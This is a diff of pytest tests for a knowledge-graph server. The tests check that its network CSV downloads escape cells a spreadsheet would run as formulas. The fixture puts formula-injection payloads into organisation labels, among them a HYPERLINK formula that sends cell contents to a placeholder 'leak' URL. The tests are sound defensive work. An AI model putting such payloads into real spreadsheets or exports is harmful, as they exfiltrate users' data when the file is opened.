@@ -21,6 +21,13 @@ from live import SERVER, Answer, LiveServer, build, start_server
 
 ROOT = Path(__file__).resolve().parent.parent
 TOKEN = "curator-token-for-bad-input"
+#: Labels of the `curated` server's data that a spreadsheet would run as formulas.
+FORMULA_LABELS = {
+    '"BIPM"@en': """'''=HYPERLINK("http://formula.invalid/?leak="&A1,"BIPM")'''@en""",
+    '"CIPM"@en': '"+1+1"@en',
+    '"CGPM"@en': '"-1+1"@en',
+    '"OIML"@en': '"@SUM(1+1)"@en',
+}
 #: The public origin the `curated` server is configured with (BASE_URL).
 PUBLIC_BASE = "https://kg.example.org"
 
@@ -31,6 +38,12 @@ def curated(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
     base = tmp_path_factory.mktemp("bad-input")
     data = base / "graph_data"
     shutil.copytree(ROOT / "graph_data", data, ignore=shutil.ignore_patterns("*.md"))
+    organisations = data / "organisations.ttl"
+    text = organisations.read_text(encoding="utf-8")
+    for old, new in FORMULA_LABELS.items():
+        assert text.count(old) == 1, old
+        text = text.replace(old, new)
+    organisations.write_text(text, encoding="utf-8")
     build(base / "store", data)
     live = start_server(
         base / "store",
@@ -340,3 +353,49 @@ def test_bipmkg_serve_names_its_own_address_by_default() -> None:
 
     assert base_url("127.0.0.1", 5000) == "http://127.0.0.1:5000"
     assert base_url("::1", 8080) == "http://[::1]:8080"
+
+
+# -- 4. The network's CSV files hold no cell a spreadsheet would run -----------------------------
+
+
+def csv_rows(answer: Answer) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(answer.body.decode("utf-8"))))
+
+
+@pytest.mark.parametrize("name", ["network-nodes.csv", "network-edges.csv"])
+def test_network_csv_cells_never_start_a_formula(curated: LiveServer, name: str) -> None:
+    from bipmkg.spreadsheet import FORMULA_STARTS
+
+    answer = get(curated, f"/download/{name}".encode())
+    assert answer.status == 200, answer.body[:300]
+    rows = csv_rows(answer)
+    assert len(rows) > 10
+    for row in rows:
+        for value in row:
+            assert not value.startswith(FORMULA_STARTS), (row, value)
+
+
+def test_a_formula_label_is_written_as_text(curated: LiveServer) -> None:
+    rows = csv_rows(get(curated, b"/download/network-nodes.csv"))
+    labels = {row[0].rsplit("/", 1)[-1]: row[1] for row in rows[1:]}
+    assert labels["bipm"] == """'=HYPERLINK("http://formula.invalid/?leak="&A1,"BIPM")"""
+    assert labels["cipm"] == "'+1+1"
+    assert labels["cgpm"] == "'-1+1"
+    assert labels["oiml"] == "'@SUM(1+1)"
+
+
+@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()))
+def test_a_cell_is_never_a_formula_and_keeps_the_value(value: object) -> None:
+    from bipmkg.spreadsheet import FORMULA_STARTS, cell
+
+    written = cell(value)
+    if isinstance(value, int | float):
+        assert written == str(value)
+        return
+    expected = "" if value is None else str(value)
+    assert written in (expected, "'" + expected)
+    assert not written.startswith(FORMULA_STARTS)
+    assert written == expected or expected.startswith(FORMULA_STARTS)
